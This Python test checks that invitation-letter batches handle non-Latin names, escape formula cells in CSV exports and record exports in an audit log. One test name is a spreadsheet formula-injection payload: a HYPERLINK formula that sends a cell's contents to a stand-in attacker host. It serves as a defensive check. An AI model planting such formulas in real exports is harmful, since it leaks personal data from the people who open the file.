"""Invitation letters for everyone's names (finding 9 of the security review: one name outside
Latin-1 — Milica Jovanović — failed a whole batch with a 500; letters.csv wrote formula cells
unescaped; letter exports were not audited)."""

import csv
import io

import sqlalchemy as sa

from services.eligibility.adapters.tables import audit_log
from tests.support.eligibility import System
from tests.support.people import personnummer

NAMES = [
    "Milica Jovanović",
    "Сергей Иванов",
    "Łukasz Żółkiewski",
    "Nguyễn Thị Minh Khai",
    '=HYPERLINK("http://evil.example/?d="&A2,"Klicka")',
    "李小龍",  # no font here has these: printed as "?", reported, the batch still prints
]


async def test_a_batch_of_everyones_names_prints_and_exports_safely(system: System) -> None:
    rows = "".join(
        f'{personnummer(year=1950 + i)},"{n.replace(chr(34), chr(34) * 2)}",Storgatan {i},302 40,Halmstad\n'
        for i, n in enumerate(NAMES)
    )
    headers = {**await system.admin(), "Content-Type": "text/csv"}
    made = await system.http.post(
        "/v1/campaigns/covid19-test/phases/letters/invitations",
        content=("personnummer,name,street,postal_code,city\n" + rows).encode(),
        headers=headers,
    )
    assert made.status_code == 201, made.text
    batch = made.json()["batch_id"]

    pdf = await system.http.get(f"/v1/invitation-batches/{batch}/letters.pdf", headers=headers)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert pdf.content.count(b"/Type /Page\n") == len(NAMES)
    assert pdf.headers["X-Letters-Incomplete"] == str(len(NAMES))  # only the last name could not be printed whole

    exported = await system.http.get(f"/v1/invitation-batches/{batch}/letters.csv", headers=headers)
    names = [row["name"] for row in csv.DictReader(io.StringIO(exported.text))]
    assert "Milica Jovanović" in names and "Сергей Иванов" in names
    formula = next(n for n in names if "HYPERLINK" in n)
    assert formula.startswith("'=")  # text in a spreadsheet, not a formula

    async with system.engine.connect() as conn:
        exports = (
            await conn.execute(
                sa.select(audit_log.c.actor_id, audit_log.c.details).where(audit_log.c.action == "letters_exported")
            )
        ).all()
    mine = [d for _, d in exports if d["batch_id"] == batch]
    assert sorted(d["format"] for d in mine) == ["csv", "pdf"]
    assert all(d["letters"] == len(NAMES) for d in mine)
